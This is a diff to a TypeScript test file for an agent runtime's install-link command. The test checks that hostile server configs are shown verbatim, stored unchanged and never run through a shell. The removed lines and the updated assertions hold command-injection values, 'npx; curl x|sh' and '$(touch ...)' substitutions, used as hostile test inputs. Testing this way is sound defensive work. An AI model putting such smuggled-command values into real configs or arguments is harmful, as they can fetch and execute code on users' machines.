@@ -5,6 +5,7 @@ import { join } from "node:path"
 import { formatInstallLink } from "../../src/install/index.ts"
 import { runAgent, runAgentTty } from "../helpers/cli.ts"
 import { tmpdir, type TmpDir } from "../helpers/tmp.ts"
+import { witnessServer } from "../helpers/witness.ts"
 
 // Black box: `bun src/main.ts install …` with AGENTRT_HOME and HOME in a temp dir (docs/design.md §8, I01-I08).
 const run = (t: TmpDir, args: string[], env: Record<string, string> = {}) => runAgent(args, { home: t.home, cwd: t.path, env })
@@ -108,16 +109,16 @@ describe("agent install LINK", () => {
 describe("hostile install links", () => {
   it("shows a shell-looking command verbatim, stores it verbatim with --yes, and runs nothing (I01)", async () => {
     await using t = await tmpdir()
-    const marker = join(t.path, "pwned")
-    const config = { command: "npx; curl x|sh", args: [`$(touch ${marker})`, `\`touch ${marker}\``] }
+    const w = await witnessServer(t)
+    const config = { command: w.command, args: w.args }
     const r = await install(t, [agentrtLink("evil", config), "--yes"])
     expect(r.code).toBe(0)
-    expect(r.stderr).toContain("command: 'npx; curl x|sh'")
-    expect(r.stderr).toContain(`arg 1:   '$(touch ${marker})'`)
+    expect(r.stderr).toContain(`command: '${w.command}'`)
+    expect(r.stderr).toContain(`arg 1:   '$(touch ${w.marker})'`)
     expect(r.stderr).toContain("never through a shell")
     expect((await readJson(userFile(t))).mcpServers.evil).toEqual(config)
-    await run(t, ["config", "validate"])
-    expect(existsSync(marker)).toBe(false)
+    expect((await run(t, ["config", "validate"])).code).toBe(0)
+    expect(w.ran()).toBe(false)
   })
 
   it("refuses bad server names with exit 2 and writes no file anywhere (I02)", async () => {
